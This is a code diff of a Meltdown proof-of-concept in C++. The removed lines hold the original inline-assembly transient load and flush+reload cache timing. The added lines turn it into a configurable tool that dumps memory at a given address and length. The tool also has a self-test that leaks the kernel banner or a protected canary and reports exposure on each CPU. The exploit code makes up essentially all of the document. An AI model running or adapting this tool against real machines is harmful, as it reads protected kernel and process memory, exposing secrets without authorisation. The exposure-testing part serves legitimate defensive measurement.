@@ -3,179 +3,823 @@
 //   - https://meltdownattack.com/meltdown.pdf
 //   - https://gcc.gnu.org/onlinedocs/gcc-4.9.0/gcc/X86-transactional-memory-intrinsics.html
 // Build:
-//   c++ meltdown.cpp -std=c++14 -Wall -mrtm -o meltdown
+//   make
 //
 //=============================================================================
 
 #include <vector>
 #include <array>
+#include <chrono>
+#include <fstream>
+#include <memory>
+#include <random>
+#include <stdexcept>
+#include <string>
+#include <thread>
 #include <iostream>
 #include <iomanip>
 #include <stdlib.h>
-#include <unistd.h>
+#include <getopt.h>
 #include <string.h>
-#include <sys/mman.h>
-#include <immintrin.h>
 
-const size_t kNumSamples = 3;
+#include "confusion.h"
+#include "meltdown.h"
 
-// assume memory pages of 4096 or 2^12 bytes
-const size_t kPageSizeExp = 12;
-const size_t kPageSize = 1 << kPageSizeExp;
+// self-test defaults: canary length and the largest bit error rate that still
+// counts as a successful recovery
+const size_t kCanarySize = 1024;
+const double kMaxBitErrorRate = 0.01;
 
-inline
+// length of the canary each backend is tried on at startup
+const size_t kBackendCanarySize = 64;
+
+template <typename Buffer>
 void
-flush_from_cache(char const* address) {
-  asm __volatile__ (
-    "mfence             \n"
-    "clflush 0(%0)      \n"
-    :
-    : "r" (address)
-    :
-  );
+pretty_print(size_t address, Buffer const& buffer) {
+  std::ios_base::fmtflags flags = std::cout.flags();
+  std::streamsize precision = std::cout.precision();
+  char fill = std::cout.fill();
+  std::string ascii;
+  std::cout << std::hex << std::internal << std::setfill('0')
+            << "0x" << std::setw(16) << address << " | ";
+  for (size_t i = 0; i < buffer.size(); ++i) {
+    std::cout << std::setw(2) << (int)buffer[i] << ((i + 1) == 8 ? "  " : " ");
+    ascii += (buffer[i] >= ' ' && buffer[i] <= '~') ? buffer[i] : '.';
+  }
+  std::cout << "| " << ascii << std::endl;
+  
+  std::cout.flags(flags);
+  std::cout.precision(precision);
+  std::cout.fill(fill);
 }
 
-// This is the core of the meltdown attack. The function performs the transient
-// instruction sequence of listing 2, page 8. It uses a memory transaction to
-// supress the exception as described in the paper.
-inline
+// Prints the confidence of every byte of a pretty_print line below it, in
+// percent and capped at 99 to fit the hex column.
+template <typename Confidences>
 void
-leak(size_t address, char * buffer) {
-  for (size_t j = 0; j < 256; ++j) {
-    flush_from_cache(&buffer[j * kPageSize]);
-  }
-
-  unsigned int status;
-  if ((status = _xbegin()) == _XBEGIN_STARTED) {
-    asm __volatile__ (
-      "retry%=:                           \n"
-      "xorq %%rax, %%rax                  \n"
-      "movb (%[address]), %%al            \n"
-      "shlq %[exponent], %%rax            \n"
-      "jz retry%=                         \n"
-      "movq (%[buffer], %%rax, 1), %%rbx  \n"
-      :
-      : [address]  "r" (address),
-        [buffer]   "r" (buffer),
-        [exponent] "J" (kPageSizeExp)
-      : "%rax", "%rbx"
-    );
-    _xend();
-  } else {
-    asm __volatile__ ("mfence\n" :::);
+print_confidence(Confidences const& confidences) {
+  std::ios_base::fmtflags flags = std::cout.flags();
+  char fill = std::cout.fill();
+  std::cout << std::dec << std::setfill(' ') << std::setw(21) << "| ";
+  for (size_t i = 0; i < confidences.size(); ++i) {
+    std::cout << std::setw(2) << std::min(99, (int)(confidences[i] * 100))
+              << ((i + 1) == 8 ? "  " : " ");
   }
+  std::cout << "| confidence %" << std::endl;
+  std::cout.flags(flags);
+  std::cout.fill(fill);
 }
 
-// This function returns the number of cycles required to access a given
-// address. It is the receiving end of the meltdown covert channel. 
-// See https://eprint.iacr.org/2013/448.pdf figure 4 on page 5.
+// bytes recovered with less confidence than this are counted in the report
+const double kLowConfidence = 0.5;
+
+// substitutions and drift events listed in the self-test report
+const size_t kReportedSubstitutions = 5;
+const size_t kReportedDriftEvents = 5;
+
+// PASS: the canary was recovered although every load of it faulted, the host
+// is exposed. FAIL: it was not. INCONCLUSIVE: some loads completed
+// architecturally, so recovering the canary proves nothing. On the timing
+// model the verdict is whether the pipeline recovered the canary.
+enum class Verdict {
+  kPass,
+  kFail,
+  kInconclusive
+};
+
 inline
-size_t
-probe_access_time(char const* address) {
-  volatile size_t time;
-
-  asm __volatile__ (
-    "mfence             \n"
-    "lfence             \n"
-    "rdtsc              \n"
-    "lfence             \n"
-    "movl %%eax, %%esi  \n"
-    "movl (%1), %%eax   \n"
-    "lfence             \n"
-    "rdtsc              \n"
-    "subl %%esi, %%eax  \n"
-    "clflush 0(%1)      \n"
-    : "=a" (time)
-    : "c" (address)
-    : "%esi", "%edx"
-  );
-  return time;
+char const*
+verdict_name(Verdict verdict) {
+  switch (verdict) {
+    case Verdict::kPass:         return "PASS";
+    case Verdict::kFail:         return "FAIL";
+    case Verdict::kInconclusive: return "INCONCLUSIVE";
+  }
+  return "unknown";
 }
 
+// the exit code of a self-test
+const int kExitInconclusive = 2;
+
 inline
-unsigned char
-sample_byte(size_t address, char * buffer) {
-  std::array<unsigned char, 256> scores{};
-  std::array<size_t, 256> access_times;
-  size_t best = 0;
-  
-  for (size_t i = 0; i < kNumSamples; ++i) {
-    access_times.fill(0);
+int
+exit_code(Verdict verdict) {
+  return verdict == Verdict::kPass ? EXIT_SUCCESS
+       : verdict == Verdict::kFail ? EXIT_FAILURE
+       : kExitInconclusive;
+}
 
-    leak(address, buffer);
+// Where the self-test canary was planted: the kernel's banner, our own memory
+// behind a protection key, or readable memory, as for the baseline backend and
+// on hosts with neither. The simulated backend reads it through the timing
+// model.
+enum class Canary {
+  kReadable,
+  kKernelBanner,
+  kProtectionKey,
+  kSimulated
+};
 
-    for (size_t j = 0; j < 256; ++j) {
-      access_times[j] = probe_access_time(&buffer[j * kPageSize]);
-    }
+inline
+char const*
+canary_name(Canary canary) {
+  switch (canary) {
+    case Canary::kReadable:      return "readable";
+    case Canary::kKernelBanner:  return "kernel banner";
+    case Canary::kProtectionKey: return "protection key";
+    case Canary::kSimulated:     return "timing model";
+  }
+  return "unknown";
+}
 
-    for (size_t j = 0; j < 256; ++j) {
-      best = access_times[best] > access_times[j] ? j : best;
+struct SelfTestResult {
+  size_t bytes;
+  size_t bit_errors;
+  double seconds;
+  double confidence_sum;
+  size_t low_confidence_bytes;
+  Canary canary;
+  size_t loads;                 // transient loads of the canary
+  size_t completed_loads;       // of which neither faulted nor aborted
+  ConfusionMatrix confusion;
+
+  double bytes_per_second() const { return bytes / seconds; }
+  double bits_per_second() const { return confusion.capacity() * bytes_per_second(); }
+  double mean_confidence() const { return confidence_sum / bytes; }
+  double bit_error_rate() const { return double(bit_errors) / (8 * bytes); }
+  // every load of the canary was suppressed, so what was recovered leaked, or
+  // the timing model, which is the ground truth, was sampled
+  bool
+  conclusive() const {
+    bool faulting = canary == Canary::kKernelBanner || canary == Canary::kProtectionKey;
+    return canary == Canary::kSimulated || (faulting && loads && !completed_loads);
+  }
+
+  Verdict
+  verdict() const {
+    return !conclusive()                        ? Verdict::kInconclusive
+         : bit_error_rate() <= kMaxBitErrorRate ? Verdict::kPass
+         : Verdict::kFail;
+  }
+};
+
+// Recovers a known canary through the covert channel. The result is a measure
+// of how well the attack works on this host. The transient backends read the
+// kernel's banner if its address is known, at most size bytes of it, and
+// otherwise a random canary in our own memory behind a protection key; the
+// baseline and simulated backends read a random canary architecturally. Our
+// own canary is placed on the given NUMA node, next to the probe region.
+SelfTestResult
+self_test(size_t size, Channel & channel, int node = kNoNode) {
+  bool transient = channel.backend == Backend::kTsx || channel.backend == Backend::kSignal;
+  KernelBanner const& banner = kernel_banner();
+  bool supervisor = transient && banner.address;
+  if (supervisor) {
+    size = std::min(size, banner.text.size());
+  }
+  ProtectedBuffer canary(size, node);
+  std::vector<unsigned char> expected(size);
+  std::vector<ByteSample> recovered(size);
+
+  std::random_device seed;
+  std::mt19937 generator(seed());
+  std::uniform_int_distribution<int> distribution(0, 255);
+  for (size_t i = 0; i < size; ++i) {
+    expected[i] = canary[i] = supervisor ? (unsigned char)banner.text[i]
+                                         : (unsigned char)distribution(generator);
+  }
+  Canary kind = channel.backend == Backend::kSimulated ? Canary::kSimulated
+              : supervisor                             ? Canary::kKernelBanner
+              : transient && canary.protect()          ? Canary::kProtectionKey
+              : Canary::kReadable;
+  size_t address = supervisor ? banner.address : (size_t)canary.data();
+
+  TransientStatistics const before = channel.stats.transient;
+  auto start = std::chrono::steady_clock::now();
+  for (size_t i = 0; i < size; ++i) {
+    if (channel.recorder) {
+      channel.recorder->expect(expected[i]);
     }
+    recovered[i] = sample_byte(address + i, channel);
+  }
+  if (channel.recorder) {
+    channel.recorder->expect(kUnknownByte);
+  }
+  auto stop = std::chrono::steady_clock::now();
 
-    scores[best]++;
+  SelfTestResult result{size, 0, std::chrono::duration<double>(stop - start).count(), 0, 0,
+                        kind,
+                        channel.stats.transient.attempts - before.attempts,
+                        channel.stats.transient.completed - before.completed};
+  for (size_t i = 0; i < size; ++i) {
+    result.bit_errors += __builtin_popcount(expected[i] ^ recovered[i].value);
+    result.confidence_sum += recovered[i].confidence;
+    result.low_confidence_bytes += recovered[i].confidence < kLowConfidence;
+    result.confusion.add(expected[i], recovered[i].value);
   }
+  return result;
+}
 
-  for (size_t j = 0; j < 256; ++j) {
-    best = scores[j] > scores[best] ? j : best;
+void
+print_self_test(SelfTestResult const& result, ChannelStatistics const& stats) {
+  std::cout << "bytes:          " << result.bytes << std::endl
+            << "rounds/byte:    " << double(stats.rounds) / stats.bytes << std::endl
+            << "no-hit rounds:  " << stats.no_hit_rounds << std::endl
+            << "no-hit bytes:   " << stats.no_hit_bytes << std::endl
+            << "poisoned:       " << stats.poisoned.discarded + stats.poisoned.kept
+            << " rounds (" << stats.poisoned.slow << " slow, " << stats.poisoned.crowded
+            << " crowded, " << stats.poisoned.jumps << " jumps, " << stats.poisoned.ambiguous
+            << " ambiguous), "
+            << stats.poisoned.discarded << " discarded, " << stats.poisoned.kept
+            << " kept" << std::endl
+            << "drift events:   " << stats.drift.size() << " ("
+            << stats.reference_probes << " reference probes)" << std::endl;
+  for (size_t i = 0; i < std::min(stats.drift.size(), kReportedDriftEvents); ++i) {
+    DriftEvent const& event = stats.drift[i];
+    std::cout << "  byte " << event.byte << ": threshold " << event.from << " -> "
+              << event.to << " (hit " << event.hit << ", miss " << event.miss << ")"
+              << std::endl;
+  }
+  if (stats.drift.size() > kReportedDriftEvents) {
+    std::cout << "  ..." << std::endl;
   }
-  return (unsigned char)best;
+  std::cout << "confidence:     " << result.mean_confidence() << " ("
+            << result.low_confidence_bytes << " bytes below " << kLowConfidence
+            << ")" << std::endl
+            << "seconds:        " << result.seconds << std::endl
+            << "bytes/sec:      " << result.bytes_per_second() << std::endl
+            << "bit errors:     " << result.bit_errors << std::endl
+            << "bit error rate: " << result.bit_error_rate() << std::endl;
+
+  double capacity = result.confusion.capacity();
+  std::cout << "capacity:       " << capacity << " bits/byte, "
+            << capacity * stats.bytes / stats.rounds << " bits/round, "
+            << result.bits_per_second() << " bits/sec" << std::endl
+            << "substitutions: ";
+  std::ios_base::fmtflags flags = std::cout.flags();
+  char fill = std::cout.fill();
+  std::vector<Substitution> substitutions =
+      result.confusion.top_substitutions(kReportedSubstitutions);
+  for (Substitution const& substitution : substitutions) {
+    std::cout << std::hex << std::setfill('0') << " " << std::setw(2) << (int)substitution.sent
+              << "->" << std::setw(2) << (int)substitution.received << std::dec << " ("
+              << substitution.count << ")";
+  }
+  std::cout.flags(flags);
+  std::cout.fill(fill);
+  std::cout << (substitutions.empty() ? " none" : "") << std::endl
+            << "canary:         "
+            << canary_name(result.canary) << std::endl
+            << "verdict:        " << verdict_name(result.verdict());
+  if (result.verdict() == Verdict::kInconclusive) {
+    std::cout << " (" << result.completed_loads << " of " << result.loads
+              << " loads completed architecturally)";
+  }
+  std::cout << std::endl;
+
+  TransientStatistics const& transient = stats.transient;
+  std::cout << "transient loads: " << transient.attempts << std::endl
+            << "  completed:     " << transient.completed << std::endl
+            << "  faults:        " << transient.faults << std::endl
+            << "  tsx aborts:    " << transient.aborts << std::endl
+            << "    conflict:    " << transient.conflict << std::endl
+            << "    capacity:    " << transient.capacity << std::endl
+            << "    explicit:    " << transient.explicit_aborts << std::endl
+            << "    retry:       " << transient.retry << std::endl
+            << "    debug:       " << transient.debug << std::endl
+            << "    nested:      " << transient.nested << std::endl
+            << "    unknown:     " << transient.unknown << std::endl
+            << "zero retries:    " << transient.zero_retries << " ("
+            << transient.zero_retries_exhausted << " exhausted)" << std::endl;
 }
 
-template <typename Buffer>
+// The self-test next to the same test with the architectural baseline. If the
+// canary leaked although every load of it faulted or aborted, the share of the
+// baseline's throughput the attack reaches is what the transient step costs.
+// Otherwise there is no such cost to give: both runs loaded architecturally,
+// or the transient run leaked nothing.
 void
-pretty_print(size_t address, Buffer const& buffer) {
+print_baseline(SelfTestResult const& result, ChannelStatistics const& stats,
+               SelfTestResult const& baseline, ChannelStatistics const& baseline_stats) {
   std::ios_base::fmtflags flags = std::cout.flags();
   std::streamsize precision = std::cout.precision();
-  char fill = std::cout.fill();
-  std::string ascii;
-  std::cout << std::hex << std::internal << std::setfill('0')
-            << "0x" << std::setw(16) << address << " | ";
-  for (size_t i = 0; i < buffer.size(); ++i) {
-    std::cout << std::setw(2) << (int)buffer[i] << ((i + 1) == 8 ? "  " : " ");
-    ascii += (buffer[i] >= ' ' && buffer[i] <= '~') ? buffer[i] : '.';
+  std::cout << std::setw(16) << "" << std::setw(14) << "transient" << std::setw(14)
+            << "baseline" << std::endl
+            << std::left << std::setw(16) << "bytes/sec:" << std::right << std::fixed
+            << std::setprecision(1) << std::setw(14) << result.bytes_per_second()
+            << std::setw(14) << baseline.bytes_per_second() << std::endl
+            << std::left << std::setw(16) << "bits/sec:" << std::right
+            << std::setw(14) << result.bits_per_second()
+            << std::setw(14) << baseline.bits_per_second() << std::endl
+            << std::left << std::setw(16) << "rounds/byte:" << std::right
+            << std::setprecision(2) << std::setw(14) << double(stats.rounds) / stats.bytes
+            << std::setw(14) << double(baseline_stats.rounds) / baseline_stats.bytes
+            << std::endl
+            << std::left << std::setw(16) << "bit error rate:" << std::right
+            << std::scientific << std::setw(14) << result.bit_error_rate()
+            << std::setw(14) << baseline.bit_error_rate() << std::endl
+            << std::left << std::setw(16) << "of baseline:" << std::right << std::fixed
+            << std::setprecision(1);
+  switch (result.verdict()) {
+    case Verdict::kPass:
+      std::cout << std::setw(13) << 100 * result.bytes_per_second() / baseline.bytes_per_second()
+                << "%" << std::endl;
+      break;
+    case Verdict::kFail:
+      std::cout << std::setw(14) << "n/a" << " (nothing leaked)" << std::endl;
+      break;
+    case Verdict::kInconclusive:
+      std::cout << std::setw(14) << "n/a" << " (the transient loads did not fault)" << std::endl;
+      break;
   }
-  std::cout << "| " << ascii << std::endl;
-  
   std::cout.flags(flags);
   std::cout.precision(precision);
-  std::cout.fill(fill);
+}
+
+// Tries every supported backend on a short canary that faults and keeps the
+// one with the fewest bit errors, the faster one on a tie. A backend whose
+// loads complete architecturally suppressed nothing and is dropped; if every
+// backend is dropped, as on a host without protection keys, the signal
+// backend is kept and the self-test comes out inconclusive.
+Backend
+select_backend(Channel & channel, int node) {
+  Backend best = Backend::kSignal;
+  SelfTestResult best_result{0, 0, 0, 0, 0};
+  for (Backend backend : {Backend::kTsx, Backend::kSignal}) {
+    if (!backend_supported(backend)) {
+      continue;
+    }
+    channel.backend = backend;
+    SelfTestResult result = self_test(kBackendCanarySize, channel, node);
+    if (!result.conclusive()) {
+      continue;
+    }
+    if (best_result.bytes == 0 || result.bit_errors < best_result.bit_errors ||
+        (result.bit_errors == best_result.bit_errors &&
+         result.bytes_per_second() > best_result.bytes_per_second())) {
+      best = backend;
+      best_result = result;
+    }
+  }
+  channel.stats = ChannelStatistics{};
+  return best;
+}
+
+struct Options {
+  bool self_test = false;
+  bool per_cpu = false;
+  PageKind pages = PageKind::kSmall;
+  size_t max_samples = kDefaultMaxSamples;
+  size_t margin = kDefaultMargin;
+  size_t retries = kDefaultRetries;
+  size_t reference_interval = kDefaultReferenceInterval;
+  bool permuted = true;
+  LayoutSpec layout;
+  TimerKind timer = TimerKind::kRdtsc;
+  bool select_backend = true;
+  Backend backend = Backend::kSignal;
+  TimingModel model;
+  bool show_confidence = false;
+  bool baseline = false;
+  std::string confusion;
+  std::string trace;
+  size_t trace_rounds = kDefaultTraceRounds;
+};
+
+// Everything one thread needs to sample bytes: its own probe region on the
+// NUMA node of its CPU, the timer and threshold calibrated on that CPU and the
+// channel built on them.
+struct Session {
+  int node;
+  std::unique_ptr<ProbeRegion> probe_region;
+  std::unique_ptr<CountingThread> counting_thread;
+  Calibration calibration;
+  std::unique_ptr<TraceRecorder> recorder;
+  std::unique_ptr<TimingSimulator> simulator;
+  Channel channel;
+};
+
+// Sets up a session for the calling thread. Throws std::runtime_error if the
+// host cannot run the attack the way options ask for. The trace is attached
+// last, so the rounds spent on backend selection are not recorded.
+void
+open_session(Options const& options, Session & session) {
+  session.node = numa_node_of_cpu(sched_getcpu());
+  session.probe_region.reset(new ProbeRegion(options.pages, session.node));
+  if (!session.probe_region->slots_distinct()) {
+    throw std::runtime_error("probe slots are not backed by distinct pages");
+  }
+
+  Timer timer;
+  timer.kind = options.timer;
+  if (timer.kind == TimerKind::kRdtscp && !cpu_has_rdtscp()) {
+    throw std::runtime_error("rdtscp is not supported");
+  }
+  if (timer.kind == TimerKind::kCounter) {
+    session.counting_thread.reset(new CountingThread());
+    if (!calibrate_counter(timer, *session.counting_thread)) {
+      throw std::runtime_error("counting thread is too slow (" +
+                               std::to_string(timer.ticks_per_cycle) + " ticks/cycle)");
+    }
+  }
+  calibrate_timer(timer);
+
+  if (!options.select_backend && options.backend == Backend::kSimulated) {
+    session.simulator.reset(new TimingSimulator(options.model));
+    session.calibration = calibrate(*session.simulator);
+  } else {
+    session.calibration = calibrate(session.probe_region->data(), timer);
+  }
+  if (!session.calibration.valid()) {
+    throw std::runtime_error("cannot tell cache hits from misses");
+  }
+
+  Channel & channel = session.channel;
+  channel.probe = session.probe_region->data();
+  channel.timer = timer;
+  channel.simulator = session.simulator.get();
+  channel.max_samples = options.max_samples;
+  channel.margin = options.margin;
+  channel.filter.retries = options.retries;
+  channel.drift.interval = options.reference_interval;
+  apply_calibration(channel, session.calibration);
+  channel.layout = options.layout;
+  channel.order = options.permuted ? permuted_probe_order(kProbeOrderSeed, channel.layout.slots())
+                                   : sequential_probe_order();
+  if (options.select_backend) {
+    channel.backend = select_backend(channel, session.node);
+    // the trial runs moved the thresholds along with the drift they saw
+    apply_calibration(channel, session.calibration);
+  } else if (backend_supported(options.backend)) {
+    channel.backend = options.backend;
+  } else {
+    throw std::runtime_error(std::string(backend_name(options.backend)) +
+                             " is not supported");
+  }
+  if (!options.trace.empty()) {
+    session.recorder.reset(new TraceRecorder(options.trace, options.trace_rounds));
+    session.recorder->set_layout(channel.layout.stride_exp, channel.layout.symbol_bits);
+    session.recorder->set_calibration(channel.threshold, channel.timer.overhead,
+                                      percentile(session.calibration.hits, 0.5),
+                                      percentile(session.calibration.misses, 0.5));
+    session.recorder->set_filter(slow_threshold(session.calibration),
+                                 ambiguous_margin(session.calibration));
+    session.recorder->set_reference_interval((uint32_t)channel.drift.interval);
+    channel.recorder = session.recorder.get();
+    record_thresholds(channel);
+    if (!session.recorder->locked()) {
+      std::cerr << "meltdown: cannot lock the trace ring of " << options.trace
+                << " in memory (RLIMIT_MEMLOCK), recording may fault" << std::endl;
+    }
+  }
+}
+
+void
+print_session(Session const& session) {
+  Channel const& channel = session.channel;
+  Calibration const& calibration = session.calibration;
+  ProbeRegion const& region = *session.probe_region;
+  std::cout << "numa node:      " << region.node() << std::endl
+            << "pages:          " << page_kind_name(region.pages())
+            << (region.huge_page_backed() ? " (huge page)" : " (small pages)")
+            << (region.locked() ? ", locked" : ", not locked (RLIMIT_MEMLOCK)") << std::endl
+            << "backend:        " << backend_name(channel.backend) << std::endl
+            << "encoding:       " << encoding_name(channel.layout.symbol_bits) << std::endl
+            << "layout:         " << channel.layout.slots() << " slots, "
+            << channel.layout.stride() << " bytes apart" << std::endl
+            << "kernel:         " << kernel_name(fastest_kernel()) << std::endl
+            << "timer:          " << timer_name(channel.timer.kind) << std::endl
+            << "timer overhead: " << channel.timer.overhead << std::endl
+            << "ticks/cycle:    " << channel.timer.ticks_per_cycle << std::endl
+            << "hit median:     " << percentile(calibration.hits, 0.5) << std::endl
+            << "miss median:    " << percentile(calibration.misses, 0.5) << std::endl
+            << "threshold:      " << calibration.threshold << std::endl;
+}
+
+struct CpuReport {
+  int cpu;
+  int node;
+  std::string error;
+  Backend backend;
+  size_t threshold;
+  SelfTestResult result;
+};
+
+// Runs the self-test pinned to cpu with a session of its own. Every CPU
+// writes its own trace, the file name suffixed with the CPU number.
+void
+self_test_on_cpu(Options options, size_t length, CpuReport & report) {
+  try {
+    pin_thread(pthread_self(), report.cpu);
+    if (!options.trace.empty()) {
+      options.trace += "." + std::to_string(report.cpu);
+    }
+    Session session;
+    open_session(options, session);
+    report.node = session.probe_region->node();
+    report.backend = session.channel.backend;
+    report.threshold = session.channel.threshold;
+    report.result = self_test(length, session.channel, session.node);
+  } catch (std::exception const& error) {
+    report.error = error.what();
+  }
+}
+
+// Runs one pinned self-test per logical CPU, all in parallel, and prints the
+// exposure map. Passes if the canary leaked on every CPU, fails if it did not
+// leak on some CPU or a CPU could not run the test, and is inconclusive
+// otherwise.
+Verdict
+self_test_per_cpu(Options const& options, size_t length) {
+  cpu_set_t allowed;
+  CPU_ZERO(&allowed);
+  if (sched_getaffinity(0, sizeof(allowed), &allowed) != 0) {
+    throw std::system_error(errno, std::generic_category(), "sched_getaffinity");
+  }
+  std::vector<CpuReport> reports;
+  for (int cpu = 0; cpu < CPU_SETSIZE; ++cpu) {
+    if (CPU_ISSET(cpu, &allowed)) {
+      reports.push_back(CpuReport{cpu, kNoNode, "", Backend::kSignal, 0,
+                                  SelfTestResult{0, 0, 0, 0, 0}});
+    }
+  }
+
+  std::vector<std::thread> workers;
+  for (CpuReport & report : reports) {
+    workers.emplace_back(self_test_on_cpu, std::cref(options), length, std::ref(report));
+  }
+  for (std::thread & worker : workers) {
+    worker.join();
+  }
+
+  Verdict verdict = Verdict::kPass;
+  std::cout << std::setw(4) << "cpu" << std::setw(6) << "node" << std::setw(11) << "backend"
+            << std::setw(11) << "threshold" << std::setw(12) << "bytes/sec"
+            << std::setw(16) << "bit error rate" << std::setw(12) << "bits/sec"
+            << std::setw(16) << "canary" << std::setw(14) << "verdict"
+            << std::endl;
+  for (CpuReport const& report : reports) {
+    std::cout << std::setw(4) << report.cpu;
+    if (!report.error.empty()) {
+      std::cout << "  error: " << report.error << std::endl;
+      verdict = Verdict::kFail;
+      continue;
+    }
+    std::cout << std::setw(6) << report.node << std::setw(11) << backend_name(report.backend)
+              << std::setw(11) << report.threshold
+              << std::setw(12) << std::fixed << std::setprecision(1)
+              << report.result.bytes_per_second()
+              << std::setw(16) << std::scientific << std::setprecision(2)
+              << report.result.bit_error_rate()
+              << std::setw(12) << std::fixed << std::setprecision(0)
+              << report.result.bits_per_second()
+              << std::setw(16) << canary_name(report.result.canary)
+              << std::setw(14) << verdict_name(report.result.verdict())
+              << std::defaultfloat << std::endl;
+    if (report.result.verdict() == Verdict::kFail) {
+      verdict = Verdict::kFail;
+    } else if (report.result.verdict() == Verdict::kInconclusive && verdict == Verdict::kPass) {
+      verdict = Verdict::kInconclusive;
+    }
+  }
+  return verdict;
 }
 
 int
 main(int argc, char* argv[]) {
-  static const char * usage = "usage: meltdown <address> <length>\nDanke Intel!\n";
+  static const char * usage =
+      "usage: meltdown [options] <address> <length>\n"
+      "       meltdown [options] --self-test [<length>]\n"
+      "options:\n"
+      "  --per-cpu        run the self-test on every logical CPU in parallel\n"
+      "  --huge-pages[=P] back the probe region with a 2 MiB page, 'thp' (default),\n"
+      "                   'hugetlb' or 'none'; falls back to smaller pages\n"
+      "  --max-samples N  give up on a byte after N rounds (default 32)\n"
+      "  --margin N       stop once the leading value is N votes ahead (default 2)\n"
+      "  --retries N      repeat up to N poisoned rounds per symbol (default 8)\n"
+      "  --recalibrate N  probe a known hit and miss after every Nth round and let\n"
+      "                   the threshold follow them (default 16), 0 keeps it fixed\n"
+      "  --probe-order O  probe the slots 'sequential' or 'permuted' (default)\n"
+      "  --stride N       space the probe slots N bytes apart: 64, 256, 1024 or\n"
+      "                   4096 (default)\n"
+      "  --encoding E     send a 'bit', 'nibble' or 'byte' (default) per round\n"
+      "  --timer T        time probes with 'rdtsc' (default), 'rdtscp' or 'counter'\n"
+      "  --confidence     print the confidence of every dumped byte\n"
+      "  --confusion FILE write the confusion matrix of the self-test to FILE\n"
+      "  --baseline       repeat the self-test with an architectural load in place\n"
+      "                   of the transient one and report both\n"
+      "  --backend B      suppress the fault with 'tsx' or 'signal', default: the\n"
+      "                   fastest that works; 'simulated' runs on a timing model,\n"
+      "                   'baseline' loads architecturally (self-test only)\n"
+      "  --model SETTINGS the timing model, e.g. hit=40:4,miss=240:24,jitter=0.001,\n"
+      "                   prefetch=0.0005,interrupts=0.001,interrupt-cost=20000,\n"
+      "                   suppressed=0.01,drift=0,seed=1\n"
+      "  --trace FILE     record the access times of every probe round to FILE\n"
+      "  --trace-rounds N keep the last N rounds in the trace (default 8192)\n"
+      "Danke Intel!\n";
+  static const struct option long_options[] = {
+    {"self-test",   no_argument,       nullptr, 't'},
+    {"per-cpu",     no_argument,       nullptr, 'P'},
+    {"huge-pages",  optional_argument, nullptr, 'H'},
+    {"max-samples", required_argument, nullptr, 'n'},
+    {"margin",      required_argument, nullptr, 'm'},
+    {"retries",     required_argument, nullptr, 'y'},
+    {"recalibrate", required_argument, nullptr, 'C'},
+    {"probe-order", required_argument, nullptr, 'o'},
+    {"stride",      required_argument, nullptr, 's'},
+    {"encoding",    required_argument, nullptr, 'e'},
+    {"timer",       required_argument, nullptr, 'T'},
+    {"backend",     required_argument, nullptr, 'b'},
+    {"model",       required_argument, nullptr, 'M'},
+    {"confidence",  no_argument,       nullptr, 'c'},
+    {"baseline",    no_argument,       nullptr, 'B'},
+    {"confusion",   required_argument, nullptr, 'x'},
+    {"trace",       required_argument, nullptr, 'r'},
+    {"trace-rounds", required_argument, nullptr, 'R'},
+    {nullptr,       0,                 nullptr, 0}
+  };
+
+  Options options;
+  int option;
+  while ((option = getopt_long(argc, argv, "", long_options, nullptr)) != -1) {
+    switch (option) {
+      case 't': options.self_test = true; break;
+      case 'P': options.per_cpu = true; break;
+      case 'H':
+        options.pages = PageKind::kTransparent;
+        if (optarg && !parse_page_kind(optarg, options.pages)) {
+          std::cerr << usage;
+          return EXIT_FAILURE;
+        }
+        break;
+      case 'n': options.max_samples = strtoul(optarg, nullptr, 10); break;
+      case 'm': options.margin = strtoul(optarg, nullptr, 10); break;
+      case 'y': options.retries = strtoul(optarg, nullptr, 10); break;
+      case 'C': options.reference_interval = strtoul(optarg, nullptr, 10); break;
+      case 'o':
+        if (strcmp(optarg, "sequential") != 0 && strcmp(optarg, "permuted") != 0) {
+          std::cerr << usage;
+          return EXIT_FAILURE;
+        }
+        options.permuted = strcmp(optarg, "permuted") == 0;
+        break;
+      case 's': {
+        size_t stride = strtoul(optarg, nullptr, 10);
+        options.layout.stride_exp = stride ? __builtin_ctzl(stride) : 0;
+        if (stride != options.layout.stride() || !layout_supported(options.layout)) {
+          std::cerr << usage;
+          return EXIT_FAILURE;
+        }
+        break;
+      }
+      case 'e':
+        if (!parse_encoding(optarg, options.layout.symbol_bits)) {
+          std::cerr << usage;
+          return EXIT_FAILURE;
+        }
+        break;
+      case 'T':
+        if (!parse_timer(optarg, options.timer)) {
+          std::cerr << usage;
+          return EXIT_FAILURE;
+        }
+        break;
+      case 'b':
+        if (!parse_backend(optarg, options.backend)) {
+          std::cerr << usage;
+          return EXIT_FAILURE;
+        }
+        options.select_backend = false;
+        break;
+      case 'M':
+        if (!parse_model(optarg, options.model)) {
+          std::cerr << usage;
+          return EXIT_FAILURE;
+        }
+        break;
+      case 'c': options.show_confidence = true; break;
+      case 'B': options.baseline = true; break;
+      case 'x': options.confusion = optarg; break;
+      case 'r': options.trace = optarg; break;
+      case 'R': options.trace_rounds = strtoul(optarg, nullptr, 10); break;
+      default:
+        std::cerr << usage;
+        return EXIT_FAILURE;
+    }
+  }
+  argc -= optind;
+  argv += optind;
+  if (options.max_samples == 0 || options.margin == 0 || options.trace_rounds == 0) {
+    std::cerr << usage;
+    return EXIT_FAILURE;
+  }
+  if (options.per_cpu && (!options.self_test || options.timer == TimerKind::kCounter)) {
+    std::cerr << "meltdown: --per-cpu needs --self-test and a TSC timer" << std::endl;
+    return EXIT_FAILURE;
+  }
+  bool simulated = !options.select_backend && options.backend == Backend::kSimulated;
+  if (options.baseline && (!options.self_test || options.per_cpu || simulated)) {
+    std::cerr << "meltdown: --baseline needs --self-test on one CPU and real hardware"
+              << std::endl;
+    return EXIT_FAILURE;
+  }
+  if (!options.select_backend && options.backend == Backend::kBaseline &&
+      !options.self_test && argc == 2) {
+    std::cerr << "meltdown: the baseline backend can only read our own memory"
+              << std::endl;
+    return EXIT_FAILURE;
+  }
+
+  // allocated before the workers start, which all inherit its access rights,
+  // and the banner looked up once for all of them
+  canary_key();
+  kernel_banner();
+
+  if (options.per_cpu && argc <= 1) {
+    size_t length = argc == 1 ? strtoul(argv[0], nullptr, 10) : kCanarySize;
+    if (length == 0) {
+      std::cerr << usage;
+      return EXIT_FAILURE;
+    }
+    try {
+      return exit_code(self_test_per_cpu(options, length));
+    } catch (std::exception const& error) {
+      std::cerr << "meltdown: " << error.what() << std::endl;
+      return EXIT_FAILURE;
+    }
+  }
+
+  Session session;
+  try {
+    open_session(options, session);
+  } catch (std::exception const& error) {
+    std::cerr << "meltdown: " << error.what() << std::endl;
+    return EXIT_FAILURE;
